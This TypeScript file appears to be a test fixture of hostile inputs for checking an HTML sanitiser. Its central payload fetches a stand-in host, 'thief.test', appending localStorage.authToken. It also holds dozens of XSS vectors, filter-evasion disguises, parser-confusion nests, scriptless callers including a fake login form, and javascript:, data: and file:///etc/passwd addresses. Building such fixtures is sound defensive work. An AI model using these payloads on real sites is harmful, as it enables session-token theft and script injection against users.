/*
 * What an attacker, or a careless paste, may leave in a text. Everything that runs would leave a mark, open a
 * dialogue and carry the login away.
 */

const thief = "https://thief.test";
const payload = `window.ran=1;alert(1);fetch('${thief}/'+localStorage.authToken)`;
const encoded = [...payload].map((character) => `&#${character.charCodeAt(0)};`).join("");

/** Ways to run the payload. */
const vectors = [
  `<script>${payload}</script>`,
  `<script src="${thief}/run.js"></script>`,
  `<img src="/media/brand/og-card.jpg" onload="${payload}">`,
  `<svg onload="${payload}"></svg>`,
  `<svg><script>${payload}</script></svg>`,
  `<math><mtext><script>${payload}</script></mtext></math>`,
  `<a href="javascript:${payload}">Press</a>`,
  `<iframe srcdoc="<script>${payload}</script>"></iframe>`,
  `<iframe src="javascript:${payload}"></iframe>`,
  `<p onclick="${payload}">Press</p>`,
  `<input autofocus onfocus="${payload}">`,
  `<details open ontoggle="${payload}"><summary>Open</summary></details>`,
  `<video autoplay onloadstart="${payload}" src="${thief}/a.mp4"></video>`,
  `<form action="javascript:${payload}"><button>Go</button></form>`,
];

/** Ways to get past a filter that looks for the vector as it is commonly written. */
const disguises: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) =>
    vector.replace(/(?<=<\/?)\w+|\bon\w+(?==)|javascript/g, (word) =>
      [...word].map((letter, index) => (index % 2 ? letter.toUpperCase() : letter)).join(""),
    ),
  (vector) => vector.replace(/ (?=\w+=)/g, "/\t\n"),
  (vector) => vector.replace(/>$/, ""),
  (vector) => vector.replace("javascript:", "java&#10;script&colon;").replace(payload, encoded),
  (vector) => `<scr<script></script>ipt>${vector}`,
];

/** Places in which browsers and filters may disagree on what is markup. */
const nests: readonly ((vector: string) => string)[] = [
  (vector) => `<noscript><p title="</noscript>${vector}"></noscript>`,
  (vector) => `<svg><style><img title="</style>${vector}"></svg>`,
  (vector) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${vector}">`,
  (vector) => `<table><tr>${vector}<td>Cell</table>`,
  (vector) => `<template>${vector}</template><select><option>${vector}</select>`,
  (vector) => `<!--><!-- --!>${vector}<!--`,
  (vector) => `<![CDATA[${vector}]]><?php ${vector} ?>`,
  (vector) => `<img alt="\`" title='"' src="x"\`>${vector}`,
  (vector) => `<textarea/></textarea/>${vector}<xmp>${vector}</xmp><plaintext>${vector}`,
];

/** What reaches out without any script. */
const callers = [
  `<img src="${thief}/pixel.gif">`,
  '<img src="//thief.test/pixel.gif">',
  '<img src="/\\thief.test/pixel.gif">',
  '<img src="/\t/thief.test/pixel.gif">',
  `<img srcset="${thief}/pixel.gif 1x" src="/x, ${thief}/pixel.gif 2x">`,
  `<p style="background:url(${thief}/pixel.gif);position:fixed;inset:0">Over everything</p>`,
  `<style>@import "${thief}/a.css"; body { display: none }</style>`,
  `<link rel="stylesheet" href="${thief}/a.css"><link rel="preload" as="image" href="${thief}/a.png">`,
  `<meta http-equiv="refresh" content="0;url=${thief}">`,
  `<base href="${thief}/"><a href="page">Press</a>`,
  `<object data="${thief}/a.swf"></object><embed src="${thief}/a.swf">`,
  `<audio src="${thief}/a.mp3" autoplay></audio><video poster="${thief}/a.png"></video>`,
  `<svg><image href="${thief}/a.png"/><use href="${thief}/a.svg#a"/></svg>`,
  `<table background="${thief}/a.png"><tr><td background="${thief}/b.png">Cell</table>`,
  `<a href="/shop" ping="${thief}">Press</a><iframe src="${thief}"></iframe>`,
  `<form action="${thief}"><input name="password"><button>Log in</button></form>`,
];

/** What would close, move or cover parts of the page around it. */
export const breakers: readonly string[] = [
  "</p></div></div></section></article></main><footer>A footer too many</footer>",
  "</li></ul></blockquote></figure></dd></dl></details></table>Left over",
  "<li><b><li>Stray</li></b></li>",
  "<table><li><table></table></li></table>",
  "<table><ul><li><table></table></li></ul></table>",
  "<table><blockquote><figure><table></table></figure></blockquote></table>",
  "<table><tr><td>Never closed",
  "<tr><td>No table</td></tr>",
  "<ul><li>Never closed<ul><li>Nor this",
  "<h2>Never closed <h3>Nor <h2>this",
  '<a href="/shop">Never closed <p><a href="/blogs">Nor this',
  "<b><i><s><u><p>Never closed",
  "<p><h2><p><ul><p>Mixed up</p></ul></h2></p>",
  "<pre>Never closed",
  "<!-- never closed",
  "<textarea>Never closed",
  "<title>Never closed",
  "<style>Never closed",
  "<iframe>Never closed",
  "<select><option>Never closed",
  "<plaintext>Never closed",
  "<noembed>Never closed",
  "<frameset><frame></frameset><body class=over><html lang=xx>",
  "<dialog open><h2>Log in</h2></dialog>",
  '<a href="/shop',
  "<p title='",
  "Almost a tag <",
  "An entity &#x110000; &#0; &amp;lt;script&amp;gt; &",
  `${"<blockquote>".repeat(60)}Deep${"</blockquote>".repeat(60)}`,
  `${"<ul><li>".repeat(60)}Deep${"</li></ul>".repeat(60)}`,
  `${"<blockquote><h2>".repeat(20)}Deep${"</h2></blockquote>".repeat(20)}`,
  `<p>${"Wide".repeat(200)}</p>`,
  `<pre>${"wide ".repeat(200)}</pre>`,
  `<p><code>${"wide".repeat(200)}</code></p>`,
  `<table><tr>${"<td>wide</td>".repeat(60)}</tr></table>`,
  `<table><tr><td><table><tr><td>${"Wide".repeat(100)}</td></tr></table></td></tr></table>`,
  `<figure><img src="/media/brand/og-card.jpg" alt="" width="9999" height="10"><figcaption>${"Wide".repeat(100)}</figcaption></figure>`,
  `<p>${"wide&nbsp;".repeat(200)}</p>`,
];

const commonVectors = [vectors[0] ?? "", vectors[2] ?? "", vectors[6] ?? ""];

/** Hostile texts for fields that hold HTML. */
export const hostileHtml: readonly string[] = [
  ...new Set([
    ...vectors.flatMap((vector) => disguises.map((disguise) => disguise(vector))),
    ...nests.flatMap((nest) => commonVectors.map(nest)),
    ...callers,
    ...breakers,
  ]),
];

/** Hostile texts for fields that hold plain words. */
export const hostileText: readonly string[] = [
  ...vectors,
  `</script><script>${payload}</script>`,
  `</title><script>${payload}</script>`,
  `"><script>${payload}</script>`,
  `' onmouseover='${payload}`,
  `" style="position:fixed;inset:0" onfocus="${payload}" autofocus="`,
  `\u2028${payload}//\u2029`,
  `]]><script>${payload}</script><![CDATA[`,
  `--><script>${payload}</script><!--`,
  `\\u003cscript\\u003e${payload}\\u003c/script\\u003e`,
  `&lt;script&gt;${payload}&lt;/script&gt;`,
  `{{constructor.constructor("${payload}")()}} \${${payload}} <%= 1 %>`,
  "</body></html><!DOCTYPE html>",
  "<!-- ", // Whatever follows must still be there.
  "Signs\u0001\u000b\u001f\ufffe\uffff",
  "\u202eback to front",
  "W".repeat(300),
  "e\u0301\u0302\u0303\u0304".repeat(50),
];

/** Addresses that must not become links. */
export const hostileAddresses: readonly string[] = [
  `javascript:${payload}`,
  `JaVaScRiPt:${payload}`,
  ` javascript:${payload}`,
  `java\tscript:${payload}`,
  `java\nscript:${payload}`,
  `\u0001javascript:${payload}`,
  `javascript&colon;${payload}`,
  `javascript://thief.test/%0a${payload}`,
  `data:text/html,<script>${payload}</script>`,
  "data:image/svg+xml,<svg/>",
  `vbscript:${payload}`,
  "blob:https://thief.test/1",
  "file:///etc/passwd",
  "//thief.test",
  "/\\thief.test",
  "\\\\thief.test",
  "/\t/thief.test",
  "https:/thief.test",
  "https://thief.test\\@shop.test",
  'https://thief.test/" onclick="1',
  "thief.test",
  "",
];
